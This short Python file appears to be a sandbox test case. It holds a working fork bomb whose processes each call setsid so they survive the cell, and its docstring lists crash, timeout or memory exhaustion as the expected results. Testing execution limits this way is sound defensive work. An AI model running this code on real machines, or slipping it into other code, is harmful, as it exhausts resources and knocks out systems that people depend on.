"""A fork bomb in the cell itself, each process in a session of its own, which goes on after the cell.

Comes out: crashed, timed out, failed, over memory
Not tried outside: it would stop this machine
"""

import contextlib
import os

if os.fork() == 0:
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
print("ATTEMPTED")
